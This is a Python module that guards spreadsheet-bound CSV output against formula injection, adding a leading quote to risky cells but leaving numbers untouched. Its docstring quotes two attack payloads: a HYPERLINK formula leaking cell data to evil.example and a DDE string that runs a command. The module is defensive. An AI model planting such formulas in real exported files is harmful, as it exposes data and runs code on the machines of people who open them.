"""Formula-injection neutralisation for CSV-like outputs that people open in spreadsheets.

Excel, LibreOffice Calc and Google Sheets treat a cell that begins with ``=``, ``+``, ``-`` or
``@`` (and, per OWASP, tab or carriage return) as a formula, so an address such as
``=HYPERLINK("http://evil.example/?"&A1)`` or ``=cmd|' /C calc'!A0`` coming back verbatim in a
result file runs when the file is opened. OWASP's remedy is applied: such a cell gets a leading
``'``, which spreadsheets take as "this is text" and do not show.

Numbers are left alone wherever they are: a cell that is entirely a decimal number, such as the
longitude ``-122.1`` or ``+41``, is read by a spreadsheet as that same number with or without a
formula prefix, so there is nothing to neutralise and mangling it would break every negative
coordinate. Everything else that begins with a trigger — text in any column, including a
"numeric" column whose value is not a number — is neutralised.

Machine consumers that want the values exactly as they are turn this off (the server's
``GEOBATCH_EXCEL_SAFE=0``, the CLI's ``--no-excel-safe``).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Final

# OWASP "CSV Injection": the characters that make a cell a formula when they come first.
FORMULA_TRIGGERS: Final = frozenset("=+-@\t\r")
PREFIX: Final = "'"
_NUMBER: Final = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(value: str) -> bool:
    """Whether a spreadsheet would take ``value`` as a formula (a plain number is not)."""
    return value[:1] in FORMULA_TRIGGERS and _NUMBER.fullmatch(value) is None


def neutralise(value: str) -> str:
    """``value`` with a leading ``'`` when a spreadsheet would take it as a formula."""
    return PREFIX + value if is_formula_like(value) else value


def neutralise_all(values: Iterable[str]) -> list[str]:
    # The first-character test inline: most cells (numbers, names) never reach the call.
    return [neutralise(v) if v and v[0] in FORMULA_TRIGGERS else v for v in values]


def neutralise_raw_cell(cell: str) -> str:
    """:func:`neutralise` for a cell as it stands in a delimited line, quotes and all: a quoted
    value gets its ``'`` inside the quotes, where the spreadsheet will see it."""
    if cell.startswith('"') and is_formula_like(cell[1:].removesuffix('"')):
        return '"' + PREFIX + cell[1:]
    return neutralise(cell)
